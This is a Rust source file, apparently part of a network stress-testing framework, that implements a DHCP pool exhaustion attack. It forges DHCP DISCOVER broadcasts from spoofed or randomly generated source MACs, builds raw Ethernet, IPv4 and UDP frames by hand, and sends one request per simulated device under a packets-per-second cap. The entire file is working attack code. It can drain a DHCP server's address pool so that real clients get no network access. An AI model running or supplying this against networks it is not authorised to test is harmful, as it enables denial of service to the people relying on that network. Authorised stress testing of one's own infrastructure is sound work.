//! DHCP exhaustion engine
//!
//! Sends one DHCP DISCOVER per simulated device, each from a distinct source
//! MAC, rate-limited by the shared pps safety cap, auto-terminating once the
//! configured device count has been reached.

use super::packet::{DhcpPacket, DHCP_CLIENT_PORT, DHCP_SERVER_PORT};
use async_trait::async_trait;
use parking_lot::Mutex;
use rand::Rng;
use std::collections::{HashSet, VecDeque};
use std::net::Ipv4Addr;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;
use tracing::{error, info};
use netstress_core::{
    cap, validate_mac, Attack, AttackContext, Error, Interface, MacAddr, Result,
};

/// Vendor prefix stamped on every randomly generated client MAC
const RANDOM_MAC_PREFIX: [u8; 2] = [0xde, 0xad];

/// Source MAC pool: fixed addresses cycled round-robin, falling back to
/// random generation (deduplicated for the lifetime of the attack) when no
/// fixed pool was supplied.
#[derive(Debug)]
pub struct MacPool {
    pool: VecDeque<MacAddr>,
    issued: HashSet<MacAddr>,
}

impl MacPool {
    pub fn new(fixed: Vec<MacAddr>) -> Self {
        Self {
            pool: fixed.into(),
            issued: HashSet::new(),
        }
    }

    /// Draw the next MAC: front of the fixed pool rotated to the back, or a
    /// fresh `de:ad` random address when the pool is empty.
    ///
    /// Uniqueness is guaranteed among randomly generated addresses only;
    /// pool-derived MACs repeat with period `pool.len()`.
    pub fn next(&mut self) -> MacAddr {
        if let Some(mac) = self.pool.pop_front() {
            self.pool.push_back(mac);
            return mac;
        }

        let mut rng = rand::thread_rng();
        loop {
            let mac = MacAddr::new([
                RANDOM_MAC_PREFIX[0],
                RANDOM_MAC_PREFIX[1],
                rng.gen(),
                rng.gen_range(0..=0x7f),
                rng.gen(),
                rng.gen(),
            ]);
            if self.issued.insert(mac) {
                return mac;
            }
        }
    }
}

/// Compute the Internet checksum (RFC 1071) over a header
fn internet_checksum(data: &[u8]) -> u16 {
    let mut sum: u32 = 0;
    let mut i = 0;

    while i + 1 < data.len() {
        sum += u16::from_be_bytes([data[i], data[i + 1]]) as u32;
        i += 2;
    }
    if i < data.len() {
        sum += (data[i] as u32) << 8;
    }

    while sum >> 16 != 0 {
        sum = (sum & 0xffff) + (sum >> 16);
    }

    !sum as u16
}

/// Wrap a DHCP payload in Ethernet/IPv4/UDP headers for a client broadcast
/// (src 0.0.0.0:68 -> dst 255.255.255.255:67, Ethernet broadcast).
fn build_dhcp_frame(src_mac: MacAddr, dhcp_payload: &[u8]) -> Vec<u8> {
    let src_ip = Ipv4Addr::UNSPECIFIED;
    let dst_ip = Ipv4Addr::BROADCAST;
    let udp_len = (8 + dhcp_payload.len()) as u16;
    let ip_len = 20 + udp_len;

    let mut frame = Vec::with_capacity(14 + ip_len as usize);

    // Ethernet header
    frame.extend_from_slice(MacAddr::broadcast().as_bytes());
    frame.extend_from_slice(src_mac.as_bytes());
    frame.extend_from_slice(&[0x08, 0x00]); // EtherType: IPv4

    // IPv4 header (no options)
    frame.push(0x45); // Version 4, IHL 5
    frame.push(0x00); // DSCP/ECN
    frame.extend_from_slice(&ip_len.to_be_bytes());
    frame.extend_from_slice(&[0x00, 0x00]); // Identification
    frame.extend_from_slice(&[0x00, 0x00]); // Flags & fragment offset
    frame.push(64); // TTL
    frame.push(17); // Protocol: UDP
    frame.extend_from_slice(&[0x00, 0x00]); // Checksum placeholder
    frame.extend_from_slice(&src_ip.octets());
    frame.extend_from_slice(&dst_ip.octets());

    let checksum = internet_checksum(&frame[14..34]);
    frame[24..26].copy_from_slice(&checksum.to_be_bytes());

    // UDP header (checksum optional for IPv4, left zero)
    frame.extend_from_slice(&DHCP_CLIENT_PORT.to_be_bytes());
    frame.extend_from_slice(&DHCP_SERVER_PORT.to_be_bytes());
    frame.extend_from_slice(&udp_len.to_be_bytes());
    frame.extend_from_slice(&[0x00, 0x00]);

    frame.extend_from_slice(dhcp_payload);
    frame
}

/// DHCP pool exhaustion attack
///
/// Simulates `num_devices` clients requesting leases. Source MACs come from
/// the supplied pool (cycled round-robin) or are generated with the `de:ad`
/// vendor prefix. The send loop is rate-limited and terminates itself after
/// the configured device count; any send error ends the run early.
pub struct DhcpExhaustion {
    interface: Interface,
    num_devices: u32,
    request_options: Vec<u8>,
    pool: Mutex<MacPool>,
}

impl DhcpExhaustion {
    /// Create the engine, validating all configuration eagerly.
    ///
    /// Fails when the interface does not exist, `num_devices` is zero, or
    /// any supplied source MAC is malformed. Supplied MACs are normalized to
    /// lowercase colon form.
    pub fn new(
        interface: &str,
        num_devices: u32,
        request_options: Option<Vec<u8>>,
        client_src: &[String],
    ) -> Result<Self> {
        let interface = Interface::by_name(interface)?;

        if num_devices < 1 {
            return Err(Error::invalid_parameter(
                "num_devices",
                "must be at least 1",
            ));
        }

        let fixed = client_src
            .iter()
            .map(|mac| validate_mac(mac))
            .collect::<Result<Vec<MacAddr>>>()?;

        Ok(Self {
            interface,
            num_devices,
            request_options: request_options.unwrap_or_else(|| (0..=80).collect()),
            pool: Mutex::new(MacPool::new(fixed)),
        })
    }

    /// Number of simulated devices
    pub fn num_devices(&self) -> u32 {
        self.num_devices
    }

    fn next_mac(&self) -> MacAddr {
        self.pool.lock().next()
    }

    /// Build the next DISCOVER frame, drawing a fresh source MAC.
    fn next_discover(&self) -> (MacAddr, Vec<u8>) {
        let mac = self.next_mac();
        let xid = rand::thread_rng().gen();
        let payload = DhcpPacket::new_discover(xid, mac, &self.request_options).build();
        (mac, build_dhcp_frame(mac, &payload))
    }

    /// Inter-packet delay derived from the capped device rate
    fn send_delay(&self) -> Duration {
        let allowed_pps = cap(self.num_devices.max(1));
        Duration::from_secs_f64(1.0 / allowed_pps as f64)
    }

    /// Drive the send loop through a caller-provided sender.
    ///
    /// Sends one DISCOVER per device while `running` stays set, sleeping the
    /// rate-limit delay between sends. Reaching the device count is normal
    /// completion; a send error is logged and terminates the run early. The
    /// running flag is cleared on every exit path. Returns the number of
    /// packets sent.
    pub fn run_with_sender<F>(&self, running: &AtomicBool, mut send: F) -> u64
    where
        F: FnMut(MacAddr, &[u8]) -> Result<()>,
    {
        let delay = self.send_delay();
        let mut sent = 0u64;

        while running.load(Ordering::Relaxed) && sent < self.num_devices as u64 {
            let (mac, frame) = self.next_discover();
            match send(mac, &frame) {
                Ok(()) => {
                    sent += 1;
                    info!(src = %mac, sent, total = self.num_devices, "Sent DHCP discover");
                }
                Err(e) => {
                    error!(error = %e, "DHCP loop error");
                    break;
                }
            }
            std::thread::sleep(delay);
        }

        if sent >= self.num_devices as u64 {
            info!(requests = self.num_devices, "Completed DHCP discover requests");
        }
        running.store(false, Ordering::Relaxed);
        sent
    }
}

#[async_trait]
impl Attack for DhcpExhaustion {
    async fn execute(&self, ctx: AttackContext) -> Result<()> {
        let sender = ctx.interface.create_sender()?;
        let delay = self.send_delay();
        let mut sent = 0u64;

        info!(
            devices = self.num_devices,
            interface = %ctx.interface.name,
            "Started DHCP exhaustion"
        );

        while ctx.running.load(Ordering::Relaxed) && sent < self.num_devices as u64 {
            let (mac, frame) = self.next_discover();

            let send_result: Result<()> = (|| {
                let mut tx = sender
                    .lock()
                    .map_err(|_| Error::Interface("datalink sender lock poisoned".to_string()))?;
                tx.send_to(&frame, None)
                    .ok_or_else(|| Error::Interface("Failed to send packet".to_string()))?
                    .map_err(Error::Io)
            })();

            match send_result {
                Ok(()) => {
                    sent += 1;
                    ctx.stats.increment_packets_sent();
                    info!(src = %mac, sent, total = self.num_devices, "Sent DHCP discover");
                }
                Err(e) => {
                    ctx.stats.increment_errors();
                    error!(error = %e, "DHCP loop error");
                    break;
                }
            }

            tokio::time::sleep(delay).await;
        }

        if sent >= self.num_devices as u64 {
            info!(requests = self.num_devices, "Completed DHCP discover requests");
        }
        ctx.running.store(false, Ordering::Relaxed);
        Ok(())
    }

    fn name(&self) -> &str {
        "DHCP Exhaustion"
    }
}
